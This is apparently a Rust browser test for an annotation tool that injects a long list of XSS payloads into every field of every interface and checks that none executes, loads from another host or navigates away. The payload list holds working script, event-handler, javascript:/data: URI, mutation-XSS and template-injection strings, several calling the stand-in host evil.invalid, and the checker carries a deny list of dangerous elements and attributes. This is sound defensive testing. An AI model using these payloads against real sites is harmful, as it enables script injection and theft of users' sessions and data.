//! Texts that try to break out of their place: into every field of every interface goes every
//! trick, and nothing of it runs, loads, frames or leads away.
//!
//! The tricks follow the ideas of OWASP's published list for whoever tests filters. Each tries to
//! set `window.brokeOut`, to open a dialog, to fetch from another host or to leave the page. A new
//! interface needs a line in [`tasks`], or the test says that it has none.

use std::collections::HashSet;

use annotd::interface::Interface;
use annotd::interface::html::sanitize::{ANYWHERE, ATTRIBUTES, ELEMENTS};
use fantoccini::key::Key;
use futures_util::StreamExt;
use futures_util::stream;
use serde_json::{Map, Value, json};

use crate::browser_session::Seat;
use crate::common::daemon::Project;

/// The texts. Hosts are names that exist nowhere.
const TRICKS: &[&str] = &[
    // Scripts, plain and in disguise.
    "<script>window.brokeOut=1</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.brokeOut=1</scr</script>ipt>",
    "<script\u{b}type=module>window.brokeOut=1</script>",
    "\"><script>window.brokeOut=1</script>",
    "'-(window.brokeOut=1)-'",
    "</script><script>window.brokeOut=1</script>",
    "<script>window.brokeOut=1",
    "<template><script>window.brokeOut=1</script></template>",
    "<noscript><p title=\"</noscript><script>window.brokeOut=1</script>\">",
    // Handlers.
    "<img src=x onerror=window.brokeOut=1>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src/onerror=window.brokeOut=1>",
    "<img src=`x`onerror=window.brokeOut=1>",
    "\" autofocus onfocus=window.brokeOut=1 x=\"",
    "' onmouseover='window.brokeOut=1' tabindex=0 autofocus onfocus='window.brokeOut=1",
    "<details open ontoggle=window.brokeOut=1><summary>a</summary></details>",
    "<input autofocus onfocus=window.brokeOut=1>",
    "<body onload=window.brokeOut=1>",
    "<audio src onloadstart=window.brokeOut=1>",
    "<video><source onerror=window.brokeOut=1></video>",
    "<marquee onstart=window.brokeOut=1>a</marquee>",
    "<p style=animation-name:x onanimationstart=window.brokeOut=1>a",
    "<div popover id=x onbeforetoggle=window.brokeOut=1>a</div><button popovertarget=x autofocus>b</button>",
    "<xss contenteditable autofocus onfocus=window.brokeOut=1>a</xss>",
    // SVG and MathML.
    "<svg onload=window.brokeOut=1>",
    "<svg><script>window.brokeOut=1</script></svg>",
    "<svg><script href=data:,window.brokeOut=1 />",
    "<svg><animate onbegin=window.brokeOut=1 attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:window.brokeOut=1 /><text x=20 y=20>a</text></a></svg>",
    "<svg><set onbegin=window.brokeOut=1 attributeName=x>",
    "<svg><foreignObject><iframe onload=window.brokeOut=1></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.brokeOut=1</script></svg>#x\">",
    "<math><a xlink:href=javascript:window.brokeOut=1>a</a></math>",
    "<math href=javascript:window.brokeOut=1>a</math>",
    // Addresses.
    "<a href=javascript:window.brokeOut=1>a</a>",
    "<a href=\" &#14; java&Tab;script&colon;window.brokeOut=1\">a</a>",
    "<a href=\"data:text/html,<script>window.brokeOut=1</script>\">a</a>",
    "<a href=vbscript:window.brokeOut=1>a</a>",
    "<a href=/end_session ping=//evil.invalid/ping>a</a>",
    "javascript:window.brokeOut=1",
    "javascript://https://example.org/%0Awindow.brokeOut=1",
    "data:text/html,<script>window.brokeOut=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VPdXQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.brokeOut=1'/>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>window.brokeOut=1</script></svg>\">",
    "<img src=data:text/html,x>",
    "<img src=/end_session>",
    // What frames, leads away or takes the page over.
    "<iframe src=javascript:window.top.brokeOut=1></iframe>",
    "<iframe srcdoc='<script>window.top.brokeOut=1</script>'></iframe>",
    "<object data=javascript:window.brokeOut=1></object>",
    "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<link rel=prefetch href=//evil.invalid/x>",
    "<form action=//evil.invalid/><button autofocus>a</button></form>",
    "<button formaction=javascript:window.brokeOut=1>a</button>",
    "<div id=card-area></div><div id=answers name=status></div><a id=question name=body>a</a>",
    "<div class='action-bar answers' data-answer=accept data-task-id=x data-option=1>a</div>",
    // Styles.
    "<style>@import '//evil.invalid/x.css'; body { display: none }</style>",
    "<p style=\"position:fixed;inset:0;background:url(//evil.invalid/x.png)\">a</p>",
    "<style><img src=\"</style><img src=x onerror=window.brokeOut=1>\">",
    // Parsers that disagree.
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.brokeOut=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.brokeOut=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.brokeOut=1>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=window.brokeOut=1></style></annotation-xml></math>",
    "<!--><img src=x onerror=window.brokeOut=1>-->",
    "<!--!><img src=x onerror=window.brokeOut=1>--!>",
    "<![CDATA[><img src=x onerror=window.brokeOut=1>]]>",
    "<title><a title=\"</title><img src=x onerror=window.brokeOut=1>\">",
    "<textarea><a title=\"</textarea><img src=x onerror=window.brokeOut=1>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=window.brokeOut=1>\">",
    "<plaintext><img src=x onerror=window.brokeOut=1>",
    "<select><style></select><img src=x onerror=window.brokeOut=1></style></select>",
    "<table><td><svg><desc><td><img src=x onerror=window.brokeOut=1>",
    "<? <p title=\"?><img src=x onerror=window.brokeOut=1>\"> ?>",
    // Entities, and what is written in other ways.
    "&lt;img src=x onerror=window.brokeOut=1&gt;",
    "&#60;script&#62;window.brokeOut=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.brokeOut=1&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ewindow.brokeOut=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.brokeOut=1%3C/script%3E",
    "+ADw-script+AD4-window.brokeOut=1+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}window.brokeOut=1\u{ff1c}/script\u{ff1e}",
    "\u{202e}<img src=x onerror=window.brokeOut=1>",
    // Templates.
    "{{constructor.constructor('window.brokeOut=1')()}}",
    "{{{__proto__.constructor.constructor('window.brokeOut=1')()}}}",
    "{{#text}}{{{text}}}{{/text}}",
    "${window.brokeOut=1}",
    "<%= window.brokeOut=1 %>",
    "[click](javascript:window.brokeOut=1) ![a](x\"onerror=\"window.brokeOut=1)",
    // Names that every object has.
    "__proto__",
    "constructor",
];

/// A template that puts a text where markup is, inside and outside of quotation marks.
const TEMPLATE: &str =
    "<p title={{text}} lang='{{text}}'>{{text}} {{{text}}}</p><a href=\"{{text}}\">a</a>";

/// Tasks for an interface with a trick in every field that it shows; nothing for one that is not
/// known here.
pub(crate) fn tasks(interface: &str, trick: &str) -> Option<Vec<Value>> {
    let length = trick.chars().count();
    let tokens = json!([{"text": trick, "start": 0, "end": length, "id": 0, "ws": false}]);
    let span =
        json!([{"start": 0, "end": length, "label": trick, "token_start": 0, "token_end": 0}]);
    let options = json!([
        {"id": trick, "text": trick}, {"id": 1, "html": trick}, {"id": 2, "image": trick, "text": trick},
    ]);
    let plain = json!({"text": trick, "label": trick});
    let with = |more: Value| {
        let mut task = plain.clone();
        merge(&mut task, more);
        task
    };
    let picture = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    let documents = [
        json!({"html": trick, "title": trick}),
        json!({"body": format!("before {trick} after"), "title": trick}),
        json!({"context_before": trick, "context_after": [trick], "title": trick}),
    ];
    let of_kind = |more: &Value| -> Vec<Value> {
        documents
            .iter()
            .map(|document| {
                let mut task = with(more.clone());
                merge(&mut task, document.clone());
                task
            })
            .collect()
    };
    let tasks = match interface {
        // Its content is drawn like that of `text`.
        "classification" => vec![with(json!({"html": trick, "title": trick, "spans": span}))],
        "text" => {
            let mut all = of_kind(&json!({"spans": span}));
            all.push(with(json!({"image": trick})));
            all
        }
        "html" => {
            vec![with(json!({"html": trick})), with(json!({"config": {"html_template": TEMPLATE}}))]
        }
        "choice" => vec![with(json!({"options": options, "html": trick}))],
        "ner" | "spans" | "ner_manual" | "spans_manual" | "pos" | "pos_manual" => vec![
            with(json!({"spans": span, "tokens": tokens})),
            with(json!({"spans": span})),
            with(json!({"html": trick, "title": trick})),
        ],
        "dep" => {
            vec![with(json!({"tokens": tokens, "arcs": [{"head": 0, "child": 0, "label": trick}]}))]
        }
        "relations" => vec![with(json!({
            "tokens": tokens, "spans": span,
            "relations": [{"head": 0, "child": 0, "label": trick, "head_span": span[0], "child_span": span[0]}],
        }))],
        "image" | "image_manual" => vec![with(json!({
            "image": picture, "width": 10, "height": 10,
            "spans": [{"label": trick, "type": "rect", "points": [[1, 1], [1, 5], [5, 5], [5, 1]]}],
        }))],
        "audio" | "audio_manual" => vec![with(json!({
            "audio": "data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA=",
            "audio_spans": [{"start": 0, "end": 1, "label": trick}],
        }))],
        "text_input" => {
            let field = json!({
                "field_label": trick, "field_placeholder": trick, "field_suggestions": [trick, trick],
                "user_input": trick, "html": trick,
            });
            let mut several = field.clone();
            merge(&mut several, json!({"field_rows": 3, "field_id": trick_as_key(trick)}));
            vec![with(field), with(several)]
        }
        "compare" | "diff" => vec![
            json!({"input": trick, "accept": trick, "reject": "", "mapping": {trick: trick}}),
            json!({
                "input": {"html": trick}, "accept": {"html": trick, "text": trick},
                "reject": {"text": trick, "image": trick},
            }),
        ],
        "llm_io" => vec![
            json!({"prompt": trick, "response": trick}),
            json!({"llm": {"prompt": trick, "response": {"html": trick}}}),
        ],
        "blocks" | "pages" => made_of_others(interface, trick, &options, &span, &tokens),
        "review" => vec![with(json!({
            "view_id": "text", "versions": [{"text": trick, "answer": "accept", "sessions": [trick]}],
        }))],
        _ => return None,
    };
    Some(tasks)
}

/// The same for interfaces that are made of others.
fn made_of_others(
    interface: &str,
    trick: &str,
    options: &Value,
    span: &Value,
    tokens: &Value,
) -> Vec<Value> {
    if interface == "blocks" {
        return vec![
            json!({"text": trick, "label": trick, "options": options, "spans": span, "html": trick,
                "config": {"blocks": [
                    {"view_id": "html", "html_template": TEMPLATE},
                    {"view_id": "html", "html_template": trick.replace("{{", "")},
                    {"view_id": "ner_manual"},
                    {"view_id": "choice", "text": null, "html": trick, "label": trick},
                    {"view_id": "text_input", "field_label": trick, "field_suggestions": [trick]},
                    {"view_id": "diff", "input": {"html": trick}, "accept": "", "reject": trick},
                ]},
            }),
        ];
    }
    vec![json!({"pages": [
        {"view_id": "choice", "html": trick, "options": options, "label": trick, trick: trick},
        {"view_id": "blocks", "text": trick, "config": {"blocks": [
            {"view_id": "html", "html_template": TEMPLATE}, {"view_id": "text", "html": trick},
        ]}},
        {"view_id": "compare", "input": {"html": trick}, "accept": trick, "reject": {"html": trick}},
        {"view_id": "ner_manual", "text": trick, "spans": span, "tokens": tokens},
    ]})]
}

/// A key of the answer may not begin with an underscore, which is annotd's.
fn trick_as_key(trick: &str) -> String {
    format!("k{trick}")
}

fn merge(into: &mut Value, more: Value) {
    if let (Value::Object(into), Value::Object(more)) = (into, more) {
        into.extend(more);
    }
}

/// What every task has besides: the facts in its corner, and keys that nobody knows.
fn furnished(mut task: Value, trick: &str, n: usize) -> Value {
    let mut meta = Map::new();
    meta.insert("n".into(), n.into());
    meta.insert(trick.to_owned(), trick.into());
    meta.insert("source".into(), format!("https://evil.invalid/{trick}").into());
    meta.insert("html".into(), trick.into());
    merge(
        &mut task,
        json!({"meta": meta, "_clean": {"/html": trick, "": trick}, "_parts": [trick]}),
    );
    task
}

/// Everything in the page that should not be, in words.
fn look() -> String {
    let listed: Vec<Value> = ELEMENTS
        .iter()
        .map(|element| {
            let own = ATTRIBUTES.iter().find(|(name, _)| name == element).map(|(_, names)| *names);
            let names: HashSet<&str> =
                ANYWHERE.iter().chain(own.unwrap_or_default()).copied().collect();
            json!([element, names])
        })
        .collect();
    format!(
        "(() => {{
          const listed = new Map({listed});
          // What the page itself puts into cleaned HTML: marks, and links of options.
          const ours = {{ mark: ['class'], a: ['class', 'tabindex', 'aria-label'] }};
          const faults = [...(window.violations ?? ['nobody listens'])];
          if (window.brokeOut) faults.push('it ran');
          if (!window.stillHere) faults.push('the page is another one');
          for (const one of document.querySelectorAll('body *, head > *')) {{
            const name = one.localName;
            const head = one.parentElement === document.head;
            const own = head && ['meta', 'title'].includes(name) || name === 'noscript' && one.parentElement === document.body || ['script', 'link'].includes(name) &&
              new URL(one.src ?? one.href, location.href).origin === location.origin;
            const never = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'base', 'meta', 'link', 'math',
              'foreignobject', 'animate', 'set', 'template', 'noscript', 'marquee', 'applet'];
            if (never.includes(name) && !own) faults.push('<' + name + '>');
            for (const {{ name: key, value }} of one.attributes) {{
              if (/^on/i.test(key) || ['srcdoc', 'formaction', 'ping', 'action'].includes(key)) faults.push(name + ' ' + key);
              if (['href', 'src', 'xlink:href', 'data', 'poster'].includes(key) &&
                  !/^(https?:|mailto:|data:(image|audio|video)\\/|blob:|[^:]*$)/i.test(value.trim())) faults.push(key + '=' + value);
              if (key === 'style' && /url[(]|expression|(^|;) *position/i.test(value)) faults.push(key + '=' + value);
            }}
          }}
          for (const whole of document.querySelectorAll('div.html:not(.sheet)')) {{
            for (const one of whole.querySelectorAll('*')) {{
              if (one.closest('button') || one.localName === 'button') continue;
              const known = listed.get(one.localName);
              if (!known) faults.push('<' + one.localName + '> in cleaned HTML');
              else for (const {{ name }} of one.attributes)
                if (!known.includes(name) && !ours[one.localName]?.includes(name)) faults.push(name + ' of ' + one.localName);
            }}
          }}
          for (const {{ name }} of performance.getEntriesByType('resource'))
            if (!name.startsWith('data:') && new URL(name).host !== location.host) faults.push('asked ' + name);
          return faults;
        }})()",
        listed = Value::Array(listed)
    )
}

/// Listens from now on for what the content security policy had to stop.
const LISTEN: &str = "window.stillHere = true; window.violations = []; \
    performance.setResourceTimingBufferSize(10_000); \
    addEventListener('securitypolicyviolation', (event) => \
      violations.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample));";

/// Walks with one interface over every trick.
async fn stands_up_to_them(interface: &str) {
    let mut all = vec![];
    for (n, trick) in TRICKS.iter().enumerate() {
        let tasks = tasks(interface, trick).unwrap_or_else(|| {
            panic!("breaking_out.rs: no tasks for {interface}; add them to `tasks`")
        });
        all.extend(tasks.into_iter().map(|task| furnished(task, trick, n)));
    }
    let mut labels: Vec<&str> =
        TRICKS.iter().copied().filter(|t| !t.contains(char::is_control)).collect();
    labels.truncate(60);
    let labels = serde_json::to_string(&labels).expect("text is JSON");
    let settings = format!(
        "interface = {interface:?}\ninstructions = \"instructions.md\"\nlabels = {labels}\n\
         [project.config]\nfield_label = {trick}\nfield_placeholder = {trick}\nkeymap_by_label = {{ {trick} = \"q\" }}",
        trick = json!(TRICKS[10]),
    );
    let project = Project::new("demo", &settings, "demo.db", "annotations = 1", &["andy"]);
    project.write("instructions.md", &TRICKS.join("\n\n"));
    // Order is that of loading; the page has the first before it can be listened to.
    let mut lines = vec![all[0].clone()];
    lines.extend(all);
    for (n, line) in lines.iter_mut().enumerate() {
        // A hash of its own makes each a question of its own, however alike they are.
        merge(line, json!({"_task_hash": n}));
    }
    let seat = Seat::open_project(project, &lines).await;
    seat.card().await;
    seat.browser.client.execute(LISTEN, Vec::new()).await.expect("no dialog is open");
    let look = look();
    // Out of the field, where there is one.
    seat.press(&[Key::Escape.into(), 'i']).await;
    seat.find("dialog[data-dialog=instructions][open]").await;
    assert_eq!(seat.eval(&look).await, json!([]), "{interface}: the instructions");
    seat.press(&[Key::Escape.into()]).await;
    seat.wait_for("the card", "document.querySelector('dialog[open]') === null").await;
    let mut seen = 0;
    while seat.eval("document.body.dataset.state").await != "done" {
        let walk = WALK.replace("LOOK", &look);
        let walked = seat.browser.client.execute_async(&walk, Vec::new()).await;
        let walked =
            walked.unwrap_or_else(|error| panic!("{interface}, after {seen} cards: {error}"));
        assert_eq!(walked["faults"], json!([]), "{interface}, after {seen} cards");
        seen += walked["seen"].as_u64().expect("a number");
    }
    seat.saved().await;
    assert_eq!(seat.eval(&look).await, json!([]), "{interface}: the end");
    assert_eq!(usize::try_from(seen), Ok(lines.len()), "{interface}: every task was on the page");
    seat.close().await;
}

/// Looks at up to 50 cards and their pages, one after the other, and skips them.
const WALK: &str = "
    const done = arguments[arguments.length - 1];
    const state = () => document.body.dataset.state;
    const card = () => document.querySelector('[data-task-id]');
    const until = async (what) => {
      const end = Date.now() + 20_000;
      while (!what()) {
        if (Date.now() > end) throw new Error('waited in vain: ' + document.body.innerText.slice(0, 500));
        await new Promise((resolve) => setTimeout(resolve, 2));
      }
    };
    (async () => {
      const faults = [];
      const look = () => faults.push(...LOOK.map((fault) => fault + ': ' + card().innerHTML.slice(0, 1500)));
      let seen = 0;
      const there = (but) => state() === 'done' || (state() === 'task' && card() && card().dataset.taskId !== but);
      await until(() => there(null));
      while (state() === 'task' && seen < 50 && !faults.length) {
        const id = card().dataset.taskId;
        look();
        for (let next; (next = document.querySelector('[data-page=next]')) && !next.disabled; look()) next.click();
        seen++;
        // Faster than the disk, a press may do nothing: then once more.
        await until(() => {
          if (card()?.dataset.taskId === id) document.querySelector('[data-answer=ignore]').click();
          return there(id);
        });
      }
      return { faults, seen };
    })().then(done, (error) => done({ faults: [String(error)], seen: 0 }));";

#[tokio::test]
async fn no_text_breaks_out_of_any_field_of_any_interface() {
    stream::iter(Interface::names()).for_each_concurrent(4, stands_up_to_them).await;
}
